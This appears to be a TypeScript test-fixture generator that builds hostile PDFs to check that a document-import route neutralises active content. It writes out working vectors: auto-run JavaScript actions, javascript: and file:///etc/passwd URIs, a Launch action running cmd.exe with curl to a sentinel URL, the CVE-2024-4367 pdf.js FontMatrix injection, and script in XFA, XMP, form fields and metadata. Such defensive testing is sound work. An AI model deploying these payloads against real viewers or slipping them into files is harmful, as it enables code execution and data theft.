import { hostileUrl as url, markerFor } from './hostile-action';
import { MARKUP_VECTORS } from './markup-vectors';
import type { HostileShows } from './vector';
import { HOST_STORIES, type HostStory } from './wrap-in-article';
import { FIRST_ADDED, pdfStream, pdfString as str, writeHostilePdf, type PdfAdditions, type PdfLine } from './write-hostile-pdf';

/** A hostile PDF: like a `HostilePayload`, with the .pdf bytes as its source. */
export interface HostilePdfPayload {
  id: string;
  route: 'pdf';
  category: string;
  bytes: Uint8Array;
  marker: string;
  shows: HostileShows;
  story: HostStory;
}

// The script a PDF payload runs: it reports through the sentinel wherever there is a global
// object (a browser, Node, a PDF viewer's sandbox), and falls back to the viewer APIs of Acrobat.
const js = (m: string) => `try{(globalThis.__hostileHit||fetch)('${url(m)}')}catch(e){app.launchURL('${url(m)}',true)}`;

// What a PDF can ask a viewer to do, as action dictionaries: run script, open a URL (of every
// unsafe kind), launch a program, fetch a remote document, submit or import form data.
const ACTIONS: ReadonlyArray<[name: string, action: (m: string) => string]> = [
  ['javascript', (m) => `<< /S /JavaScript /JS ${str(js(m))} >>`],
  ['uri-javascript', (m) => `<< /S /URI /URI ${str(`javascript:${js(m)}`)} >>`],
  ['uri-hostile', (m) => `<< /S /URI /URI ${str(url(m))} >>`],
  ['uri-data-html', (m) => `<< /S /URI /URI ${str(`data:text/html,<script>${js(m)}</script>`)} >>`],
  ['uri-file', (m) => `<< /S /URI /URI ${str(`file:///etc/passwd?${m}`)} >>`],
  ['launch', (m) => `<< /S /Launch /F ${str('cmd.exe')} /Win << /F ${str('cmd.exe')} /P ${str(`/c curl ${url(m)}`)} >> >>`],
  ['gotor-remote', (m) => `<< /S /GoToR /F << /FS /URL /F ${str(url(m))} >> /D [0 /Fit] >>`],
  ['submit-form', (m) => `<< /S /SubmitForm /F << /FS /URL /F ${str(url(m))} >> /Flags 4 >>`],
  ['import-data', (m) => `<< /S /ImportData /F ${str(url(m))} >>`],
  ['chained-next', (m) => `<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS ${str(js(m))} >> >>`],
];

type Build = (m: string) => { additions: PdfAdditions; lines?: PdfLine[] };

// Where an action can sit so that a viewer runs it without being asked: on opening the document,
// on a link, when the page opens, on a form field's events.
const ACTION_PLACES: ReadonlyArray<[name: string, place: (action: string) => PdfAdditions]> = [
  ['open-action', (action) => ({ catalog: `/OpenAction ${action}` })],
  [
    'link-annotation',
    (action) => ({
      page: `/Annots [${FIRST_ADDED} 0 R]`,
      objects: [`<< /Type /Annot /Subtype /Link /Rect [54 560 400 600] /Border [0 0 0] /A ${action} >>`],
    }),
  ],
  ['page-open', (action) => ({ page: `/AA << /O ${action} /C ${action} >>` })],
  ['document-events', (action) => ({ catalog: `/AA << /WC ${action} /WS ${action} /DS ${action} /WP ${action} /DP ${action} >>` })],
  [
    'form-field-events',
    (action) => ({
      page: `/Annots [${FIRST_ADDED} 0 R]`,
      catalog: `/AcroForm << /Fields [${FIRST_ADDED} 0 R] /NeedAppearances true >>`,
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (q) /Rect [54 560 400 600] /AA << /K ${action} /F ${action} /V ${action} /C ${action} /Fo ${action} /E ${action} >> >>`,
      ],
    }),
  ],
];

// CVE-2024-4367: pdf.js compiled a font's FontMatrix into a function, so a string in the matrix
// became code. Here in a Type 1 font dictionary, inside an embedded Type 1 program, and in a
// Type 3 font (whose matrix pdf.js always reads); each font draws a line of the page.
const FONT_MATRIX = (m: string) => `[1 2 3 4 5 ${str(`0); ${js(m)}; (0`)}]`;
const FONT_LINE = (font: string): PdfLine[] => [{ text: 'abc', size: 11, font }];
const FONT_TRICKS: ReadonlyArray<[name: string, build: Build]> = [
  [
    'font-matrix-type1',
    (m) => ({
      additions: { fonts: `/H1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix ${FONT_MATRIX(m)} >>` },
      lines: FONT_LINE('H1'),
    }),
  ],
  [
    'font-matrix-embedded-type1',
    (m) => ({
      additions: {
        fonts: `/H1 << /Type /Font /Subtype /Type1 /BaseFont /Hostile /FirstChar 97 /LastChar 99 /Widths [500 500 500] /FontDescriptor ${FIRST_ADDED} 0 R /FontMatrix ${FONT_MATRIX(m)} >>`,
        objects: [
          `<< /Type /FontDescriptor /FontName /Hostile /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile ${FIRST_ADDED + 1} 0 R >>`,
          pdfStream(
            '/Length1 200 /Length2 0 /Length3 0',
            `%!PS-AdobeFont-1.0: Hostile\n/FontName /Hostile def\n/FontMatrix [0.001 0 0 0.001 0 (0\\); ${js(m)}; \\(0)] readonly def\n/Encoding StandardEncoding def\ncurrentdict end\ncurrentfile eexec\n`,
          ),
        ],
      },
      lines: FONT_LINE('H1'),
    }),
  ],
  [
    'font-matrix-type3',
    (m) => ({
      additions: {
        fonts: `/H1 << /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix ${FONT_MATRIX(m)} /CharProcs << /a ${FIRST_ADDED} 0 R /b ${FIRST_ADDED} 0 R /c ${FIRST_ADDED} 0 R >> /Encoding << /Type /Encoding /Differences [97 /a /b /c] >> /FirstChar 97 /LastChar 99 /Widths [500 500 500] /Resources << >> >>`,
        objects: [pdfStream('', '500 0 0 0 500 500 d1 0 0 500 500 re f')],
      },
      lines: FONT_LINE('H1'),
    }),
  ],
];

// Script and markup in the parts of a PDF that are not the page: embedded files, XFA forms,
// form values, XMP metadata, and a JavaScript name tree.
const DOCUMENT_PARTS: ReadonlyArray<[name: string, build: Build]> = [
  [
    'javascript-name-tree',
    (m) => ({ additions: { catalog: `/Names << /JavaScript << /Names [(init) << /S /JavaScript /JS ${str(js(m))} >>] >> >>` } }),
  ],
  [
    'javascript-stream',
    (m) => ({ additions: { catalog: `/OpenAction << /S /JavaScript /JS ${FIRST_ADDED} 0 R >>`, objects: [pdfStream('', js(m))] } }),
  ],
  [
    'xfa-form-script',
    (m) => ({
      additions: {
        catalog: `/AcroForm << /Fields [] /XFA ${FIRST_ADDED} 0 R >> /NeedsRendering true`,
        objects: [
          pdfStream(
            '',
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f" layout="tb"><event activity="initialize"><script contentType="application/x-javascript">${js(m)}</script></event><field name="x"><ui><textEdit/></ui><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${js(m)}"/></body></exData></value></field></subform></template></xdp:xdp>`,
          ),
        ],
      },
    }),
  ],
  [
    'embedded-html-file',
    (m) => ({
      additions: {
        catalog: `/Names << /EmbeddedFiles << /Names [(minutes.html) << /Type /Filespec /F (minutes.html) /EF << /F ${FIRST_ADDED} 0 R >> >>] >> >>`,
        objects: [pdfStream('/Type /EmbeddedFile /Subtype /text#2Fhtml', `<script>${js(m)}</script>`)],
      },
    }),
  ],
  [
    'form-field-value-markup',
    (m) => ({
      additions: {
        page: `/Annots [${FIRST_ADDED} 0 R]`,
        catalog: `/AcroForm << /Fields [${FIRST_ADDED} 0 R] >>`,
        objects: [
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (q) /Rect [54 560 400 600] /V ${str(`<img src=x onerror="${js(m)}">`)} /RV ${str(`<body onload="${js(m)}">`)} >>`,
        ],
      },
    }),
  ],
  [
    'xmp-title-markup',
    (m) => ({
      additions: {
        catalog: `/Metadata ${FIRST_ADDED} 0 R`,
        objects: [
          pdfStream(
            '/Type /Metadata /Subtype /XML',
            `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">&lt;img src=x onerror="${js(m)}"&gt;</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`,
          ),
        ],
      },
    }),
  ],
  [
    'annotation-contents-markup',
    (m) => ({
      additions: {
        page: `/Annots [${FIRST_ADDED} 0 R]`,
        objects: [
          `<< /Type /Annot /Subtype /Text /Rect [54 560 80 580] /Contents ${str(`<script>${js(m)}</script>`)} /RC ${str(`<body><img src=x onerror="${js(m)}"></body>`)} >>`,
        ],
      },
    }),
  ],
];

// Markup in the Info dictionary: the title, author and subject an import reads as metadata.
// The title and author are shown (as text), so these may show their marker.
const INFO_TRICKS: ReadonlyArray<[name: string, info: (m: string) => Record<string, string>]> = [
  ['title-img-onerror', (m) => ({ Title: `Harbour minutes <img src=x onerror="${js(m)}">` })],
  ['title-script', (m) => ({ Title: `<script>${js(m)}</script> Harbour minutes` })],
  ['title-javascript-url', (m) => ({ Title: `javascript:${js(m)}` })],
  ['author-svg-onload', (m) => ({ Author: `<svg onload="${js(m)}">Hana Ilves</svg>` })],
  [
    'subject-keywords-iframe',
    (m) => ({ Subject: `<iframe srcdoc="<script>${js(m)}</script>">`, Keywords: `<a href="javascript:${js(m)}">x</a>` }),
  ],
  ['creation-date-markup', (m) => ({ CreationDate: `D:2025<script>${js(m)}</script>` })],
];

/**
 * Hostile PDFs for the PDF route: every action (script, unsafe URIs, launch, remote documents,
 * form submission) in every place a viewer runs one by itself, the CVE-2024-4367 FontMatrix
 * trick in three kinds of font, script in name trees, streams, XFA, embedded files, form
 * values, XMP and annotation text, markup in the Info dictionary, and each markup trick of the
 * HTML corpus drawn as page text (which must reach the reader as inert text).
 */
export function hostilePdfPayloads(): HostilePdfPayload[] {
  const specs: Array<{ category: string; name: string; build: Build; shows: 'nothing' | 'text' }> = [
    ...ACTION_PLACES.flatMap(([place, put]) =>
      ACTIONS.map(([name, action]) => ({
        category: 'pdf-action',
        name: `${place}/${name}`,
        build: (m: string) => ({ additions: put(action(m)) }),
        shows: 'nothing' as const,
      })),
    ),
    ...FONT_TRICKS.map(([name, build]) => ({ category: 'pdf-font', name, build, shows: 'nothing' as const })),
    ...DOCUMENT_PARTS.map(([name, build]) => ({ category: 'pdf-document-part', name, build, shows: 'nothing' as const })),
    ...INFO_TRICKS.map(([name, info]) => ({
      category: 'pdf-info',
      name,
      build: (m: string) => ({ additions: { info: info(m) } }),
      shows: 'text' as const,
    })),
    ...MARKUP_VECTORS.map((vector) => ({
      category: `pdf-text-${vector.category}`,
      name: vector.name,
      build: (m: string) => ({ additions: {}, lines: markupLines(vector.build(m)) }),
      shows: 'text' as const,
    })),
  ];
  return specs.map((spec, index) => {
    const id = `pdf/${spec.category}/${spec.name}`;
    const marker = markerFor(id);
    const story = HOST_STORIES[index % HOST_STORIES.length]!;
    const { additions, lines = [] } = spec.build(marker);
    const body = (text: string) => wrapWords(text, 88).map((line) => ({ text: line, size: 11 }));
    const page: PdfLine[] = [
      { text: story.title, size: 18 },
      ...body(story.before),
      ...lines,
      ...body(story.after),
      ...story.more.flatMap(body),
    ];
    return {
      id,
      route: 'pdf' as const,
      category: spec.category,
      bytes: writeHostilePdf(page, additions),
      marker,
      shows: spec.shows,
      story,
    };
  });
}

// Markup as page text: small type, so most of a payload fits on one line; characters WinAnsi
// cannot draw become '?'; a long payload runs on over further lines, never breaking a marker.
function markupLines(markup: string): PdfLine[] {
  const latin = markup.replace(/[^\x20-\x7e]/gu, '?');
  const pieces = latin.split(/(fmx_\w+)/u).flatMap((piece) => (piece.startsWith('fmx_') ? [piece] : (piece.match(/.{1,150}/gsu) ?? [])));
  const lines: string[] = [''];
  for (const piece of pieces) {
    if (lines.at(-1)!.length + piece.length > 150) lines.push(piece);
    else lines[lines.length - 1] += piece;
  }
  return lines.filter((text) => text !== '').map((text) => ({ text, size: 6 }));
}

function wrapWords(text: string, width: number): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    if (line && line.length + word.length + 1 > width) {
      lines.push(line);
      line = word;
    } else line = line ? `${line} ${word}` : word;
  }
  return line ? [...lines, line] : lines;
}
